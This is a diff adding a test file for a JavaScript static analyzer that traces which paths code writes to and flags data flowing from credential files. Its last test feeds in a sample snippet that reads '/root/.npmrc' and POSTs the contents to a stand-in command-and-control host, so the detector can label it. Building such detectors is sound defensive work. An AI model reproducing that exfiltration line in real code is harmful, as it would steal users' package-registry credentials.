@@ -1,0 +1,28 @@
+import { expect, test } from 'vitest';
+import { analyzeJs } from './facts.ts';
+
+/** Paths that a source writes to, as far as they are known. */
+function written(source: string): string[] {
+  return analyzeJs(`const fs = require('fs');\n${source}`).fileActions.flatMap(({ paths }) => paths);
+}
+
+test.each([
+  ['a path', `function put(p) { fs.writeFileSync(p, ''); }\nput('a');\nput('b');`, ['a', 'b']],
+  [
+    'a path through two functions',
+    `const put = (p) => fs.writeFileSync(p, '');\nconst go = (x) => put(x + '/b');\ngo('a');`,
+    ['a/b'],
+  ],
+  ['a path by call', `function put(p) { fs.writeFileSync(p, ''); }\nput.call(null, 'a');`, ['a']],
+  ['a path of a function that only others call', `exports.put = (p) => fs.writeFileSync(p, '');`, []],
+  ['a path that grows by itself', `function put(p) { fs.writeFileSync(p, ''); put(p); }\nput('a');`, ['a']],
+])('%s that a function of the file is given', (_name, source, expected) => {
+  expect(written(source)).toEqual(expected);
+});
+
+test('a credential file that a function of the file is given is one where it is read', () => {
+  const { flow } = analyzeJs(
+    `const fs = require('fs');\nconst read = (p) => fs.readFileSync(p, 'utf8');\nfetch('https://c2.weir.test', { method: 'POST', body: read('/root/.npmrc') });`,
+  );
+  expect([...flow.origins.values()].map(({ text }) => text)).toContain('read of a credential file');
+});
